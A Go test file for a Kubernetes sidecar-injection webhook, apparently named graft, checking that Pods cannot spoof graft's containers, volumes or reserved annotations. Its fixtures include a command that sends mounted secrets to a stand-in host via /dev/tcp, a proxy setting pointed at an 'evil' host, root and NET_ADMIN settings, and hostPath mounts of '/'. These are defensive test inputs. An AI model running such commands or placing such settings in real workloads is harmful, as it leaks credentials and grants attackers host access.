package inject

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/graftdev/graft/bench/corpus"
	"github.com/graftdev/graft/internal/names"
	"github.com/graftdev/graft/templates"
)

// The webhook's side of the guarantee against Pod authors (issue 32,
// docs/concepts/guarantee.md): a container, init container or volume
// named like graft's is graft's only if it is graft's render for the
// Pod; a record proves nothing; collisions are checked with or without
// one; keys in graft's domains are graft's.

// guaranteeConfig is the shipped configuration plus a keep profile, and
// a profile of the agent fixture (no longer shipped; some cases below use
// its sidecar, mount and volume), locked as the shipped profiles are.
func guaranteeConfig() Config {
	cfg := DefaultConfig()
	p := cfg.Profiles["enabled"]
	p.OnConflict = ConflictKeep
	cfg.Profiles["enabled-keep"] = p
	cfg.Profiles["agent"] = Profile{Templates: []string{"agent"}, LockedParams: BuiltinLocks()}
	return cfg
}

// answer is an admission's outcome, decoded.
type answer struct {
	res      Result
	message  string
	warnings []string
	// pod is the Pod the answer leaves (the review's object when it
	// carries no patch).
	pod map[string]any
}

// admitAs admits pod with profile, in a review of apiVersion.
func admitAs(t *testing.T, e *Engine, profile, apiVersion string, pod map[string]any) answer {
	t.Helper()
	review := corpus.Marshal(apiVersion, "guarantee", "CREATE", "shop", pod)
	resp, res, err := e.Admit(nil, review, Options{Profile: profile})
	if err != nil {
		t.Fatal(err)
	}
	var r struct {
		APIVersion string `json:"apiVersion"`
		Response   struct {
			Warnings []string `json:"warnings"`
			Status   struct {
				Message string `json:"message"`
			} `json:"status"`
		} `json:"response"`
	}
	if err := json.Unmarshal(resp, &r); err != nil {
		t.Fatal(err)
	}
	if r.APIVersion != apiVersion {
		t.Fatalf("answered %s to %s", r.APIVersion, apiVersion)
	}
	return answer{res: res, message: r.Response.Status.Message, warnings: r.Response.Warnings,
		pod: decodeGeneric(t, applyResponse(t, review, resp))}
}

// webPod is a Pod with one app container, web, of the app's image.
func webPod() map[string]any {
	return map[string]any{"apiVersion": "v1", "kind": "Pod",
		"metadata": map[string]any{"name": "web-0", "namespace": "shop", "labels": map[string]any{"app": "web"},
			"annotations": map[string]any{"team.example.com/owner": "payments"}},
		"spec": map[string]any{"containers": []any{map[string]any{"name": "web", "image": "registry.local/web:1",
			"ports": []any{map[string]any{"name": "http", "containerPort": 8080}}}}}}
}

// clone copies a generic Pod.
func clone(t *testing.T, pod map[string]any) map[string]any {
	t.Helper()
	return decodeGeneric(t, mustJSON(t, pod))
}

// named returns the container or init container called name.
func named(pod map[string]any, name string) map[string]any {
	spec := pod["spec"].(map[string]any)
	if c := findNamed(spec["initContainers"], name); c != nil {
		return c
	}
	return findNamed(spec["containers"], name)
}

// securityContext returns a container's securityContext, made if absent.
func securityContext(c map[string]any) map[string]any {
	sc, _ := c["securityContext"].(map[string]any)
	if sc == nil {
		sc = map[string]any{}
		c["securityContext"] = sc
	}
	return sc
}

func annotations(pod map[string]any) map[string]any {
	meta := pod["metadata"].(map[string]any)
	a, _ := meta["annotations"].(map[string]any)
	if a == nil {
		a = map[string]any{}
		meta["annotations"] = a
	}
	return a
}

func labels(pod map[string]any) map[string]any {
	meta := pod["metadata"].(map[string]any)
	l, _ := meta["labels"].(map[string]any)
	if l == nil {
		l = map[string]any{}
		meta["labels"] = l
	}
	return l
}

// hostile is a native sidecar of graft's name the Pod's author wrote.
func hostile(name string) map[string]any {
	return map[string]any{"name": name, "image": "registry.local/evil:1", "restartPolicy": "Always",
		"securityContext": map[string]any{"runAsUser": 0, "capabilities": map[string]any{"add": []any{"NET_ADMIN"}}}}
}

// A message's parts shared by the cases below.
const (
	keepEnabled    = `; rename it, or set onConflict: keep in profile "enabled" to admit such Pods`
	keepEnabledOut = keepEnabled + " without mesh-proxy"
)

func TestGuaranteeAgainstPodAuthors(t *testing.T) {
	e := newTestEngine(t, guaranteeConfig())
	// graft's own injection of webPod under each profile: a real record
	// and graft's real containers, for the cases that start from them.
	injected := map[string]map[string]any{}
	for _, profile := range []string{"enabled", "agent", "otel-agent", "secrets-agent", "log-shipper", "mesh-proxy-secrets-agent"} {
		a := admitAs(t, e, profile, "admission.k8s.io/v1", webPod())
		if a.res.Decision != DecisionInject {
			t.Fatalf("%s: %v/%v %s", profile, a.res.Decision, a.res.Reason, a.message)
		}
		injected[profile] = a.pod
	}
	record := func(profile string) string { return annotations(injected[profile])[names.Status].(string) }
	from := func(profile string, edit func(p map[string]any)) func(t *testing.T) map[string]any {
		return func(t *testing.T) map[string]any {
			p := clone(t, injected[profile])
			edit(p)
			return p
		}
	}
	fresh := func(edit func(p map[string]any)) func(t *testing.T) map[string]any {
		return func(*testing.T) map[string]any {
			p := webPod()
			edit(p)
			return p
		}
	}
	noRecord := func(p map[string]any) { delete(annotations(p), names.Status) }
	proxy := func(p map[string]any) map[string]any { return named(p, "graft-proxy") }
	web := func(p map[string]any) map[string]any { return named(p, "web") }

	tests := []struct {
		name, profile string
		// apiVersion is the review's, admission.k8s.io/v1 when empty.
		apiVersion string
		pod        func(t *testing.T) map[string]any
		decision   Decision
		// message is the denial's message, exactly, or a substring of a
		// warning when allowed ("" for none).
		message string
		// check, when set, checks the Pod graft's answer leaves.
		check func(t *testing.T, a answer)
	}{
		// 1. A graft-named container graft did not render, of a template
		// the profile does not select.
		{"1: a sidecar of a template not selected", "enabled", "", fresh(func(p map[string]any) {
			appendTo(p, "initContainers", hostile("graft-secrets-agent"))
		}), DecisionDeny,
			`Pod already has init container "graft-secrets-agent", which graft did not inject: template secrets-agent renders that name, and graft does not inject it into this Pod` + keepEnabled + " without secrets-agent", nil},
		{"1: with a copied record claiming it", "enabled", "", fresh(func(p map[string]any) {
			appendTo(p, "initContainers", hostile("graft-secrets-agent"))
			annotations(p)[names.Status] = record("mesh-proxy-secrets-agent")
		}), DecisionDeny, `Pod already has init container "graft-secrets-agent", which graft did not inject: template secrets-agent renders that name`, nil},
		{"1: with graft's proxy, v1beta1", "enabled", "admission.k8s.io/v1beta1", from("enabled", func(p map[string]any) {
			appendTo(p, "initContainers", hostile("graft-secrets-init"))
		}), DecisionDeny, `Pod already has init container "graft-secrets-init", which graft did not inject: template secrets-agent renders that name`, nil},
		{"1: as an app container", "enabled", "", fresh(func(p map[string]any) {
			appendTo(p, "containers", map[string]any{"name": "graft-otel-agent", "image": "registry.local/evil:1"})
		}), DecisionDeny, `Pod already has container "graft-otel-agent", which graft did not inject: template otel-agent renders that name`, nil},
		{"1: a volume of another template's name", "enabled", "", fresh(func(p map[string]any) {
			appendTo(p, "volumes", map[string]any{"name": "graft-logs", "hostPath": map[string]any{"path": "/var/log"}})
		}), DecisionDeny, `Pod already has volume "graft-logs", which graft did not inject: template log-shipper renders that name`, nil},
		{"1: a name only another parameter value renders", "enabled", "", fresh(func(p map[string]any) {
			appendTo(p, "initContainers", hostile("graft-proxy-init"))
		}), DecisionDeny,
			`Pod already has init container "graft-proxy-init", which graft did not inject: template mesh-proxy renders that name, and graft does not inject it into this Pod` + keepEnabledOut, nil},
		{"1: keep leaves it and records it kept", "enabled-keep", "", fresh(func(p map[string]any) {
			appendTo(p, "initContainers", hostile("graft-secrets-agent"))
		}), DecisionInject, `graft: template secrets-agent not injected: the Pod already has init container "graft-secrets-agent"`,
			func(t *testing.T, a answer) {
				st := podStatus(t, a.pod)
				if !slices.Equal(st.Injected, []string{"graft-proxy"}) || len(st.Kept) != 1 || st.Kept[0].Name != "secrets-agent" ||
					!slices.Equal(st.Kept[0].InitContainers, []string{"graft-secrets-agent"}) {
					t.Fatalf("status %s: want graft-proxy injected and graft-secrets-agent kept", st.Value())
				}
			}},

		// 2. graft's name and allowed image, someone else's container,
		// with a record graft wrote (copied from a Pod graft injected).
		{"2: own command", "enabled", "", from("enabled", func(p map[string]any) {
			proxy(p)["command"] = []any{"/bin/sh", "-c", "evil"}
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its command differs from template mesh-proxy's` + keepEnabledOut, nil},
		{"2: runAsUser 0", "enabled", "", from("enabled", func(p map[string]any) {
			securityContext(proxy(p))["runAsUser"] = 0
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its securityContext.runAsUser differs from template mesh-proxy's` + keepEnabledOut, nil},
		{"2: added capabilities", "enabled", "", from("enabled", func(p map[string]any) {
			securityContext(proxy(p))["capabilities"] = map[string]any{"drop": []any{"ALL"}, "add": []any{"NET_ADMIN", "NET_RAW"}}
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its securityContext.capabilities.add differs from template mesh-proxy's` + keepEnabledOut, nil},
		{"2: a hostPath mount", "enabled", "", from("enabled", func(p map[string]any) {
			appendTo(p, "volumes", map[string]any{"name": "host", "hostPath": map[string]any{"path": "/"}})
			proxy(p)["volumeMounts"] = []any{map[string]any{"name": "host", "mountPath": "/host"}}
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its volumeMounts[0] differs from template mesh-proxy's` + keepEnabledOut, nil},
		{"2: all of it, no record", "enabled", "", from("enabled", func(p map[string]any) {
			noRecord(p)
			c := proxy(p)
			c["command"] = []any{"/bin/sh"}
			securityContext(c)["runAsUser"] = 0
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its command differs from template mesh-proxy's`, nil},
		{"2: the record copied onto a Pod of its own", "enabled", "", fresh(func(p map[string]any) {
			annotations(p)[names.Status] = record("enabled")
			c := clone(t, proxy(injected["enabled"]))
			securityContext(c)["privileged"] = true
			appendTo(p, "initContainers", c)
		}), DecisionDeny, `Pod already has init container "graft-proxy", which graft did not inject: its securityContext.privileged differs from template mesh-proxy's`, nil},
		{"2: an env var more", "enabled", "", from("enabled", func(p map[string]any) {
			proxy(p)["env"] = append(proxy(p)["env"].([]any), map[string]any{"name": "ENVOY_EXTRA", "value": "x"})
		}), DecisionDeny, `its env[2] differs from template mesh-proxy's`, nil},
		{"2: another image", "enabled", "", from("enabled", func(p map[string]any) {
			proxy(p)["image"] = "docker.io/envoyproxy/envoy:v1.32.3-evil"
		}), DecisionDeny, `its image differs from template mesh-proxy's`, nil},
		{"2: no startup probe", "enabled", "", from("enabled", func(p map[string]any) {
			delete(proxy(p), "startupProbe")
		}), DecisionDeny, `its startupProbe differs from template mesh-proxy's`, nil},
		{"2: in spec.containers", "enabled", "", from("enabled", func(p map[string]any) {
			c := proxy(p)
			p["spec"].(map[string]any)["initContainers"] = []any{}
			appendTo(p, "containers", c)
		}), DecisionDeny,
			`Pod already has container "graft-proxy", which graft did not inject: template mesh-proxy renders it as an init container with restartPolicy: Always (a native sidecar)` + keepEnabledOut, nil},
		{"2: agent's sidecar", "agent", "", from("agent", func(p map[string]any) {
			securityContext(named(p, "graft-agent"))["runAsUser"] = 0
		}), DecisionDeny, `Pod already has init container "graft-agent", which graft did not inject: its securityContext.runAsUser differs from template agent's`, nil},
		{"2: otel-agent's sidecar", "otel-agent", "", from("otel-agent", func(p map[string]any) {
			named(p, "graft-otel-agent")["args"] = []any{"--config=/evil.yaml"}
		}), DecisionDeny, `Pod already has init container "graft-otel-agent", which graft did not inject: its args[0] differs from template otel-agent's`, nil},
		{"2: secrets-agent's init container", "secrets-agent", "", from("secrets-agent", func(p map[string]any) {
			named(p, "graft-secrets-init")["command"] = []any{"/bin/sh", "-c", "cat /var/run/secrets/* > /dev/tcp/evil"}
		}), DecisionDeny, `Pod already has init container "graft-secrets-init", which graft did not inject: its command[1] differs from template secrets-agent's`, nil},
		{"2: log-shipper's volume made a hostPath", "log-shipper", "", from("log-shipper", func(p map[string]any) {
			for _, v := range p["spec"].(map[string]any)["volumes"].([]any) {
				if v := v.(map[string]any); v["name"] == "graft-logs" {
					delete(v, "emptyDir")
					v["hostPath"] = map[string]any{"path": "/var/log"}
				}
			}
		}), DecisionDeny, `Pod already has volume "graft-logs", which graft did not inject: its hostPath differs from template log-shipper's`, nil},
		{"2: keep leaves the Pod's container, records it kept", "enabled-keep", "", from("enabled", func(p map[string]any) {
			securityContext(proxy(p))["runAsUser"] = 0
		}), DecisionInject, "",
			func(t *testing.T, a answer) {
				st := podStatus(t, a.pod)
				if len(st.Injected) != 0 || st.Template("mesh-proxy") != nil || len(st.Kept) != 1 || !slices.Equal(st.Kept[0].InitContainers, []string{"graft-proxy"}) {
					t.Fatalf("status %s: want graft-proxy kept, nothing injected", st.Value())
				}
				if len(a.warnings) == 0 || !strings.Contains(a.warnings[0], `template mesh-proxy not injected: the Pod already has init container "graft-proxy"`) {
					t.Fatalf("warnings %q", a.warnings)
				}
			}},

		// 3. Collisions, with graft's record and graft's sidecar present.
		{"3: an app running as the proxy's uid", "enabled", "", from("enabled", func(p map[string]any) {
			securityContext(web(p))["runAsUser"] = 1337
		}), DecisionDeny,
			`container "web" runs as uid 1337, which template mesh-proxy reserves for its container "graft-proxy"; change it, or set onConflict: keep in profile "enabled" to admit such Pods without mesh-proxy`, nil},
		{"3: the Pod running as the proxy's uid, no record", "enabled", "", from("enabled", func(p map[string]any) {
			noRecord(p)
			p["spec"].(map[string]any)["securityContext"] = map[string]any{"runAsUser": 1337}
		}), DecisionDeny, `container "web" runs as uid 1337 (the Pod's securityContext.runAsUser)`, nil},
		{"3: an app on the proxy's health port", "enabled", "", from("enabled", func(p map[string]any) {
			appendTo(p, "containers", map[string]any{"name": "side", "image": "s:1", "ports": []any{map[string]any{"containerPort": 15021}}})
		}), DecisionDeny, `container "side" already uses port 15021/TCP, which template mesh-proxy's container "graft-proxy" opens`, nil},
		{"3: graft's env name, another value", "otel-agent", "", from("otel-agent", func(p map[string]any) {
			for _, e := range web(p)["env"].([]any) {
				if e := e.(map[string]any); e["name"] == "GRAFT_OTEL_POD_NAME" {
					e["valueFrom"] = map[string]any{"fieldRef": map[string]any{"fieldPath": "metadata.annotations['secret']"}}
				}
			}
		}), DecisionDeny, `container "web" already sets env var "GRAFT_OTEL_POD_NAME", which template otel-agent sets in every app container`, nil},
		{"3: graft's mount path, another volume", "agent", "", from("agent", func(p map[string]any) {
			appendTo(p, "volumes", map[string]any{"name": "mine", "emptyDir": map[string]any{}})
			appendTo(p, "containers", map[string]any{"name": "side", "image": "s:1",
				"volumeMounts": []any{map[string]any{"name": "mine", "mountPath": "/var/run/graft-agent"}}})
		}), DecisionDeny, `container "side" already mounts volume "mine" at /var/run/graft-agent, where template agent mounts volume "graft-agent-run"`, nil},
		{"3: graft's volume name, a hostPath", "agent", "", from("agent", func(p map[string]any) {
			for _, v := range p["spec"].(map[string]any)["volumes"].([]any) {
				if v := v.(map[string]any); v["name"] == "graft-agent-run" {
					v["emptyDir"] = nil
					v["hostPath"] = map[string]any{"path": "/"}
				}
			}
		}), DecisionDeny, `Pod already has volume "graft-agent-run", which graft did not inject: its emptyDir differs from template agent's`, nil},

		// 4. Keys in graft's domains.
		{"4: graft's value replaces the Pod's", "enabled", "", fresh(func(p map[string]any) {
			annotations(p)["redirect.graft.dev/exclude-outbound-ports"] = "1-65535"
			annotations(p)["redirect.graft.dev/proxy-uid"] = "0"
		}), DecisionInject, "", func(t *testing.T, a answer) {
			if ann := annotations(a.pod); ann["redirect.graft.dev/exclude-outbound-ports"] != "" || ann["redirect.graft.dev/proxy-uid"] != "1337" {
				t.Fatalf("annotations %v: want graft's values", ann)
			}
			if st := podStatus(t, a.pod); !slices.Contains(st.Template("mesh-proxy").Annotations, "redirect.graft.dev/proxy-uid") {
				t.Fatalf("status %s does not record the annotation graft set", st.Value())
			}
		}},
		{"4: a key no template renders here", "enabled", "", fresh(func(p map[string]any) {
			annotations(p)["redirect.graft.dev/bypass-uids"] = "0"
		}), DecisionDeny,
			`the Pod sets annotation redirect.graft.dev/bypass-uids, which is graft's to set (a Pod may set only the annotations graft.dev/templates and graft.dev/<template>.<param>, and the labels graft.dev/inject and, where its profile allows, graft.dev/rev); remove it`, nil},
		{"4: another subdomain, in capitals", "enabled", "", fresh(func(p map[string]any) {
			annotations(p)["Policy.GRAFT.dev/exempt"] = "true"
		}), DecisionDeny, `the Pod sets annotation Policy.GRAFT.dev/exempt, which is graft's to set`, nil},
		{"4: a label of graft's", "enabled", "", fresh(func(p map[string]any) { labels(p)["graft.dev/watchdog"] = "enabled" }),
			DecisionDeny, `the Pod sets label graft.dev/watchdog, which is graft's to set`, nil},
		// graft.dev/inject is the Pod's (graft reads only "false"), as a
		// label; the annotation is not one.
		{"4: an opt-in label on a Pod", "enabled", "", fresh(func(p map[string]any) { labels(p)["graft.dev/inject"] = "enabled" }),
			DecisionInject, "", nil},
		{"4: the opt-out as an annotation", "enabled", "", fresh(func(p map[string]any) { annotations(p)["graft.dev/inject"] = "false" }),
			DecisionDeny, `the Pod sets annotation graft.dev/inject, which is graft's to set`, nil},
		{"4: refused under keep too", "enabled-keep", "", fresh(func(p map[string]any) { annotations(p)["graft.dev/owner"] = "me" }),
			DecisionDeny, `the Pod sets annotation graft.dev/owner, which is graft's to set`, nil},
		{"4: the injected label and the status are graft's", "enabled", "", fresh(func(p map[string]any) {
			labels(p)[names.Injected] = "canary"
			annotations(p)[names.Status] = "x"
		}), DecisionInject, "", func(t *testing.T, a answer) {
			if labels(a.pod)[names.Injected] != DefaultRevision || podStatus(t, a.pod).Template("mesh-proxy") == nil {
				t.Fatalf("labels %v, status %v: want graft's", labels(a.pod), annotations(a.pod)[names.Status])
			}
		}},
		{"4: per-Pod annotations are the Pod's", "enabled", "", fresh(func(p map[string]any) {
			annotations(p)[names.Templates] = "mesh-proxy"
			annotations(p)["graft.dev/mesh-proxy.logLevel"] = "debug"
		}), DecisionInject, "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := admitAs(t, e, tt.profile, cmpOrString(tt.apiVersion, "admission.k8s.io/v1"), tt.pod(t))
			if a.res.Decision != tt.decision {
				t.Fatalf("decision %v (%v), want %v: %s %q", a.res.Decision, a.res.Reason, tt.decision, a.message, a.warnings)
			}
			switch {
			case tt.decision == DecisionDeny:
				if a.res.Reason != ReasonConflict || !strings.Contains(a.message, tt.message) {
					t.Fatalf("denied (%v): %s\nwant %s", a.res.Reason, a.message, tt.message)
				}
			case tt.message != "":
				if !slices.ContainsFunc(a.warnings, func(w string) bool { return strings.Contains(w, tt.message) }) {
					t.Fatalf("warnings %q, want %q", a.warnings, tt.message)
				}
			}
			if tt.check != nil {
				tt.check(t, a)
			}
		})
	}
}

func cmpOrString(s, otherwise string) string {
	if s != "" {
		return s
	}
	return otherwise
}

// apiServerDefaults sets what the API server defaults in a Pod's
// containers and volumes when graft left it unset
// (k8s.io/kubernetes pkg/apis/core/v1 SetObjectDefaults_Pod).
func apiServerDefaults(pod map[string]any) {
	setIfAbsent := func(m map[string]any, k string, v any) {
		if _, ok := m[k]; !ok {
			m[k] = v
		}
	}
	httpGet := func(h any) {
		if h, ok := h.(map[string]any); ok {
			setIfAbsent(h, "path", "/")
			setIfAbsent(h, "scheme", "HTTP")
		}
	}
	eachContainer(pod, func(_ string, c map[string]any) {
		setIfAbsent(c, "imagePullPolicy", "IfNotPresent")
		setIfAbsent(c, "terminationMessagePath", "/dev/termination-log")
		setIfAbsent(c, "terminationMessagePolicy", "File")
		ports, _ := c["ports"].([]any)
		for _, p := range ports {
			setIfAbsent(p.(map[string]any), "protocol", "TCP")
		}
		env, _ := c["env"].([]any)
		for _, e := range env {
			vf, _ := e.(map[string]any)["valueFrom"].(map[string]any)
			if f, ok := vf["fieldRef"].(map[string]any); ok {
				setIfAbsent(f, "apiVersion", "v1")
			}
			if f, ok := vf["resourceFieldRef"].(map[string]any); ok {
				setIfAbsent(f, "divisor", "0")
			}
		}
		for _, k := range []string{"livenessProbe", "readinessProbe", "startupProbe"} {
			if p, ok := c[k].(map[string]any); ok {
				setIfAbsent(p, "timeoutSeconds", 1)
				setIfAbsent(p, "periodSeconds", 10)
				setIfAbsent(p, "successThreshold", 1)
				setIfAbsent(p, "failureThreshold", 3)
				httpGet(p["httpGet"])
			}
		}
		if l, ok := c["lifecycle"].(map[string]any); ok {
			for _, k := range []string{"postStart", "preStop"} {
				if h, ok := l[k].(map[string]any); ok {
					httpGet(h["httpGet"])
				}
			}
		}
	})
	vols, _ := pod["spec"].(map[string]any)["volumes"].([]any)
	for _, v := range vols {
		v := v.(map[string]any)
		for _, k := range []string{"secret", "configMap", "downwardAPI", "projected"} {
			if s, ok := v[k].(map[string]any); ok {
				setIfAbsent(s, "defaultMode", 420)
			}
		}
		if h, ok := v["hostPath"].(map[string]any); ok {
			setIfAbsent(h, "type", "")
		}
	}
}

// TestReinvokedAfterAnotherWebhook (7): graft is reinvoked after every
// later mutator. What the API server and its ServiceAccount plugin do to
// graft's sidecar is allowed; a webhook changing its command or
// securityContext makes it not graft's, a conflict.
func TestReinvokedAfterAnotherWebhook(t *testing.T) {
	e := newTestEngine(t, guaranteeConfig())
	// A Pod as the ServiceAccount plugin leaves it: the token volume,
	// mounted in the app container.
	pod := webPod()
	appendTo(pod, "volumes", map[string]any{"name": "kube-api-access-x1y2z", "projected": map[string]any{
		"sources": []any{map[string]any{"serviceAccountToken": map[string]any{"path": "token"}}}}})
	named(pod, "web")["volumeMounts"] = []any{map[string]any{"name": "kube-api-access-x1y2z", "readOnly": true, "mountPath": tokenMountPath}}

	for _, profile := range []string{"enabled", "otel-agent", "secrets-agent", "log-shipper", "mesh-proxy-secrets-agent", "otel-agent-log-shipper"} {
		t.Run(profile, func(t *testing.T) {
			first := admitAs(t, e, profile, "admission.k8s.io/v1", clone(t, pod))
			if first.res.Decision != DecisionInject {
				t.Fatalf("first call: %v/%v %s", first.res.Decision, first.res.Reason, first.message)
			}
			// The API server defaults the patched Pod, and the plugin's
			// re-run would mount the token (graft mounted it already).
			settled := clone(t, first.pod)
			apiServerDefaults(settled)
			again := admitAs(t, e, profile, "admission.k8s.io/v1", settled)
			if again.res.Decision != DecisionSkip || again.res.Reason != ReasonAlreadyInjected {
				t.Fatalf("reinvoked on the defaulted Pod: %v/%v %s", again.res.Decision, again.res.Reason, again.message)
			}
		})
	}

	first := admitAs(t, e, "enabled", "admission.k8s.io/v1", clone(t, pod))
	for _, tt := range []struct {
		name   string
		mutate func(proxy map[string]any)
		field  string
	}{
		{"command", func(c map[string]any) { c["command"] = []any{"/evil"} }, "command"},
		{"root", func(c map[string]any) { securityContext(c)["runAsUser"] = 0 }, "securityContext.runAsUser"},
		{"NET_ADMIN", func(c map[string]any) {
			securityContext(c)["capabilities"] = map[string]any{"add": []any{"NET_ADMIN"}, "drop": []any{"ALL"}}
		}, "securityContext.capabilities.add"},
		{"an env var", func(c map[string]any) {
			c["env"] = append(c["env"].([]any), map[string]any{"name": "HTTP_PROXY", "value": "evil:3128"})
		}, "env[2]"},
		{"a second token mount", func(c map[string]any) {
			c["volumeMounts"] = append(c["volumeMounts"].([]any), map[string]any{"name": "kube-api-access-x1y2z", "readOnly": true, "mountPath": "/copy"})
		}, "volumeMounts[1]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := clone(t, first.pod)
			apiServerDefaults(p)
			tt.mutate(named(p, "graft-proxy"))
			a := admitAs(t, e, "enabled", "admission.k8s.io/v1", p)
			want := `Pod already has init container "graft-proxy", which graft did not inject: its ` + tt.field + ` differs from template mesh-proxy's` + keepEnabledOut
			if a.res.Decision != DecisionDeny || a.message != want {
				t.Fatalf("%v/%v: %s\nwant %s", a.res.Decision, a.res.Reason, a.message, want)
			}
			// Under keep graft leaves the Pod's container to it, records
			// it kept, and a third call converges.
			k := admitAs(t, e, "enabled-keep", "admission.k8s.io/v1", p)
			if k.res.Decision == DecisionDeny || len(k.warnings) == 0 {
				t.Fatalf("keep: %v/%v %q", k.res.Decision, k.res.Reason, k.warnings)
			}
			if st := podStatus(t, k.pod); st.Template("mesh-proxy") != nil || len(st.Kept) != 1 {
				t.Fatalf("keep: status %s", st.Value())
			}
			if third := admitAs(t, e, "enabled-keep", "admission.k8s.io/v1", k.pod); third.res.Decision != DecisionSkip {
				t.Fatalf("keep: third call %v/%v", third.res.Decision, third.res.Reason)
			}
		})
	}
}

// TestTokenMountOfAnotherKind: graft's container may hold the
// ServiceAccount plugin's mount only of the Pod's projected volume, read
// only, at the token path: a volume of another kind under the plugin's
// name is the Pod's, and graft does not mount it itself.
func TestTokenMountOfAnotherKind(t *testing.T) {
	e := newTestEngine(t, guaranteeConfig())
	for _, tt := range []struct {
		name     string
		volume   map[string]any
		readOnly bool
		graft    bool
	}{
		{"projected", map[string]any{"projected": map[string]any{"sources": []any{}}}, true, true},
		{"projected, writable", map[string]any{"projected": map[string]any{"sources": []any{}}}, false, false},
		{"an emptyDir the app fills", map[string]any{"emptyDir": map[string]any{}}, true, false},
		{"a hostPath", map[string]any{"hostPath": map[string]any{"path": "/"}}, true, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := admitAs(t, e, "enabled", "admission.k8s.io/v1", webPod()).pod
			v := map[string]any{"name": "kube-api-access-abcde"}
			for k, x := range tt.volume {
				v[k] = x
			}
			appendTo(p, "volumes", v)
			c := named(p, "graft-proxy")
			c["volumeMounts"] = []any{map[string]any{"name": "kube-api-access-abcde", "readOnly": tt.readOnly, "mountPath": tokenMountPath}}
			a := admitAs(t, e, "enabled", "admission.k8s.io/v1", p)
			if graft := a.res.Decision != DecisionDeny; graft != tt.graft {
				t.Fatalf("graft's: %v, want %v (%v/%v %s)", graft, tt.graft, a.res.Decision, a.res.Reason, a.message)
			}
		})
	}
}

// TestRevisionsShareSidecarNames: with several revisions, a name any
// revision's templates render is graft's, whichever revision serves the
// Pod: the revision "next" serves a template (classic-sidecar) the
// default revision's set lacks, and a Pod the default revision serves
// with a container of its name is a conflict, as it is not for an
// engine that serves the default set alone.
func TestRevisionsShareSidecarNames(t *testing.T) {
	builtin, err := templates.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	next := DefaultConfig()
	next.Revision = "next"
	r := newTestRevisions(t, RevisionsConfig{Revisions: []RevisionConfig{
		{Config: DefaultConfig(), Templates: builtin}, {Config: next, Templates: testTemplates(t)}}})
	pod := webPod()
	appendTo(pod, "containers", map[string]any{"name": "graft-classic", "image": "registry.local/mine:1"})
	review := podReview(pod, "revisions")
	_, res, err := r.Admit(nil, review, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Revision != DefaultRevision || res.Decision != DecisionDeny || res.Reason != ReasonConflict {
		t.Fatalf("revision %s: %v/%v, want default: deny/conflict", res.Revision, res.Decision, res.Reason)
	}
	alone, err := New(DefaultConfig(), builtin)
	if err != nil {
		t.Fatal(err)
	}
	if _, res, _ := alone.Admit(nil, review, Options{}); res.Decision != DecisionInject {
		t.Fatalf("an engine of the default set alone: %v/%v, want inject", res.Decision, res.Reason)
	}
}

// TestExplainSaysWhatIsNotGrafts: graft explain reports, per template,
// why an object of its name is not graft's, and the objects of other
// templates' names and the reserved keys that make a Pod a conflict.
func TestExplainSaysWhatIsNotGrafts(t *testing.T) {
	e := newTestEngine(t, guaranteeConfig())
	pod := webPod()
	appendTo(pod, "initContainers", hostile("graft-proxy"))
	appendTo(pod, "initContainers", hostile("graft-secrets-agent"))
	annotations(pod)["graft.dev/owner"] = "me"
	ex, err := e.Explain(podReview(pod, "explain"), Options{Profile: "enabled"})
	if err != nil {
		t.Fatal(err)
	}
	if len(ex.Plan) != 1 || ex.Plan[0].State != StateConflict || ex.Plan[0].Conflict != `init container "graft-proxy"` ||
		ex.Plan[0].Why != "its image differs from template mesh-proxy's" {
		t.Fatalf("plan %+v", ex.Plan)
	}
	if !slices.Equal(ex.Foreign, []string{`init container "graft-secrets-agent" (template secrets-agent renders that name, and graft does not inject it into this Pod)`}) ||
		!slices.Equal(ex.Reserved, []string{"annotation graft.dev/owner"}) {
		t.Fatalf("foreign %q, reserved %q", ex.Foreign, ex.Reserved)
	}
}
